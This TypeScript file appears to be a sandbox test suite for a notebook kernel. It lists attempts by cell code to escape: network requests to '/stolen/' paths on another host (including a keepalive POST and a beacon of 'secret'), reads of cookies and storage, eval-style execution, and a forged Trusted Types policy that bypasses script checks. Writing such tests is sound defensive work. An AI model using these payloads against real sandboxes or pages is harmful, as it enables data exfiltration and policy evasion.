/** One way out of the kernel that a cell may try. */
export interface Attack {
  name: string;
  /** The body of an async function. Throwing is failing; the name `same` is the page's server, `other` another. */
  attempt: string;
  /** What a plain worker, without the kernel's sandbox, gets from it: the proof that the attempt is a real one. */
  plain: "request" | "success" | "nothing";
}

/**
 * What the attempts share. Addresses of scripts pass Trusted Types by a policy of the attacker's own; `reach` imports
 * by way of a script that no compiler of cells has seen.
 */
const TOOLS = `
const policy = self.trustedTypes?.createPolicy("nextjs", {
  createScriptURL: (url) => url,
  createScript: (text) => text,
});
const script = (url) => policy?.createScriptURL(url) ?? url;
const code = (text) => policy?.createScript(text) ?? text;
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const event = (target, good, bad) => new Promise((resolve, reject) => {
  target.addEventListener(good, (event) => resolve(event.data));
  for (const name of bad) target.addEventListener(name, () => reject(new Error(name)));
});
const reach = (url) => {
  importScripts(script(blob("self.reach = (url) => import(url)")));
  return self.reach(url);
};
/** What a worker made of a text says. */
const worker = async (url) => {
  const answer = await event(new Worker(script(url)), "message", ["error"]);
  if (String(answer).startsWith("refused")) throw new Error(answer);
  return answer;
};
const inside = (body) =>
  "(async () => " + body + ")().then((value) => postMessage('reached ' + value), (error) => postMessage('refused ' + error))";
`;

const fetching = (name: string, where: "same" | "other", options = "{}"): Attack => ({
  name,
  attempt: `return (await fetch(${where} + "/stolen/${name.replaceAll(/\W+/g, "-")}", ${options})).type;`,
  plain: "request",
});

/** Ways to a server. */
const NETWORK: Attack[] = [
  fetching("fetch from the page's server", "same"),
  fetching("fetch from another server", "other"),
  fetching("fetch without CORS", "other", '{ mode: "no-cors" }'),
  fetching("fetch that outlives its page", "other", '{ method: "POST", body: "secret", keepalive: true }'),
  {
    name: "XMLHttpRequest",
    attempt: `
      const request = new XMLHttpRequest();
      request.open("GET", other + "/stolen/xhr");
      request.send();
      await event(request, "load", ["error", "abort", "timeout"]);`,
    plain: "request",
  },
  {
    name: "XMLHttpRequest that blocks",
    attempt: `
      const request = new XMLHttpRequest();
      request.open("GET", same + "/stolen/xhr-sync", false);
      request.send();
      return request.status;`,
    plain: "request",
  },
  {
    name: "WebSocket",
    attempt: `await event(new WebSocket(other.replace("http", "ws") + "/stolen/socket"), "open", ["error", "close"]);`,
    plain: "request",
  },
  {
    name: "WebSocketStream",
    attempt: `await new WebSocketStream(other.replace("http", "ws") + "/stolen/socket-stream").opened;`,
    // Not every build of Chromium has it.
    plain: "nothing",
  },
  {
    name: "WebTransport",
    attempt: `await new WebTransport(other.replace("http:", "https:") + "/stolen/transport").ready;`,
    // The listener speaks no HTTP/3, so nobody gets beyond knocking.
    plain: "nothing",
  },
  {
    name: "EventSource",
    attempt: `return event(new EventSource(other + "/stolen/events"), "message", ["error"]);`,
    plain: "request",
  },
  {
    name: "RTCPeerConnection",
    attempt: `return new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(other).host }] });`,
    plain: "nothing",
  },
  {
    name: "sendBeacon",
    attempt: `if (!navigator.sendBeacon(other + "/stolen/beacon", "secret")) throw new Error("refused");`,
    plain: "nothing",
  },
  {
    name: "importScripts from a server",
    attempt: `importScripts(script(other + "/stolen/import-scripts"));`,
    plain: "request",
  },
  {
    name: "importScripts from a data: address",
    attempt: `importScripts(script("data:text/javascript,self.reached=1"));`,
    plain: "success",
  },
  {
    name: "import() from a server",
    attempt: `await reach(other + "/stolen/import");`,
    plain: "request",
  },
  {
    name: "import() from a data: address",
    attempt: `await reach("data:text/javascript,export default 1");`,
    plain: "success",
  },
  {
    name: "static import from a server, in a module of one's own",
    attempt: `await reach(blob("import " + JSON.stringify(other + "/stolen/static-import")));`,
    plain: "request",
  },
  {
    name: "worker from a server",
    attempt: `await worker(same + "/stolen/worker");`,
    plain: "request",
  },
  {
    name: "worker from a data: address",
    attempt: `await worker("data:text/javascript,postMessage(1)");`,
    plain: "success",
  },
  {
    name: "fetch in a worker of one's own",
    attempt: `await worker(blob(inside("fetch('" + other + "/stolen/nested')")));`,
    plain: "request",
  },
  {
    name: "indexedDB in a worker of one's own",
    attempt: `await worker(blob(inside(
      "new Promise((yes, no) => { const open = indexedDB.open('stolen'); open.onsuccess = yes; open.onerror = no; })"
    )));`,
    plain: "success",
  },
  {
    name: "shared worker",
    attempt: `new SharedWorker(script(same + "/stolen/shared-worker"));`,
    plain: "nothing",
  },
  {
    name: "service worker",
    attempt: `await navigator.serviceWorker.register(script(same + "/stolen/service-worker"));`,
    plain: "nothing",
  },
  {
    name: "FontFace",
    attempt: `await new FontFace("stolen", "url(" + other + "/stolen/font)").load();`,
    plain: "request",
  },
  {
    name: "WebAssembly from a server",
    attempt: `await WebAssembly.compileStreaming(fetch(other + "/stolen/wasm"));`,
    plain: "request",
  },
];

/** Ways to what the browser keeps, and to other pages. */
const STORAGE: Attack[] = [
  {
    name: "indexedDB",
    attempt: `return event(indexedDB.open("gradbook"), "success", ["error", "blocked"]);`,
    plain: "success",
  },
  { name: "indexedDB.databases", attempt: `return (await indexedDB.databases()).length;`, plain: "success" },
  { name: "caches", attempt: `await caches.open("stolen");`, plain: "success" },
  {
    name: "the origin's private files",
    attempt: `await navigator.storage.getDirectory();`,
    plain: "success",
  },
  { name: "storage buckets", attempt: `await navigator.storageBuckets.open("stolen");`, plain: "success" },
  { name: "cookieStore", attempt: `await cookieStore.getAll();`, plain: "nothing" },
  { name: "document.cookie", attempt: `return document.cookie.length;`, plain: "nothing" },
  { name: "localStorage", attempt: `return localStorage.length;`, plain: "nothing" },
  { name: "sessionStorage", attempt: `return sessionStorage.length;`, plain: "nothing" },
  { name: "locks", attempt: `await navigator.locks.request("stolen", () => 1);`, plain: "success" },
  {
    name: "Notification",
    attempt: `return event(new Notification("stolen"), "show", ["error"]);`,
    plain: "nothing",
  },
  {
    name: "the page's window",
    attempt: `return (self.parent ?? self.opener ?? self.top).location.href;`,
    plain: "nothing",
  },
];

/** Ways to make code of a text. */
const TEXT_AS_CODE: Attack[] = [
  { name: "eval", attempt: `return eval(code("1 + 1")) + 0;`, plain: "success" },
  { name: "indirect eval", attempt: `return (0, eval)(code("1 + 1")) + 0;`, plain: "success" },
  { name: "Function", attempt: `return new Function("return 1")();`, plain: "success" },
  {
    name: "AsyncFunction",
    attempt: `return await new (async () => {}).constructor("return 1")();`,
    plain: "success",
  },
  {
    name: "GeneratorFunction",
    attempt: `return new (function* () {}).constructor("yield 1")().next().value;`,
    plain: "success",
  },
  {
    name: "a timer with a text",
    attempt: `
      setTimeout(code("self.timed = true"));
      await new Promise((resolve) => setTimeout(resolve, 50));
      if (!self.timed) throw new Error("nothing ran");`,
    plain: "success",
  },
];

export const ATTACKS: readonly Attack[] = [...NETWORK, ...STORAGE, ...TEXT_AS_CODE];

/**
 * A program that makes all the attempts and reports on each. As a cell it prints; in a worker it posts.
 *
 * @param report the function to call with the list of [name, outcome]
 */
export function program(attacks: readonly Attack[], same: string, other: string, report: string): string {
  const attempts = attacks.map(
    ({ name, attempt }) => `[${JSON.stringify(name)}, async () => { ${attempt} }]`,
  );
  return `
const same = ${JSON.stringify(same)};
const other = ${JSON.stringify(other)};
${TOOLS}
const outcomes = [];
await Promise.all([
${attempts.join(",\n")}
].map(async ([name, attempt]) => {
  const slow = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 4000));
  const outcome = await Promise.race([attempt(), slow]).then(
    (value) => "succeeded " + String(value),
    (error) => "failed " + String(error),
  );
  outcomes.push([name, outcome]);
}));
${report}(JSON.stringify(outcomes));
`;
}
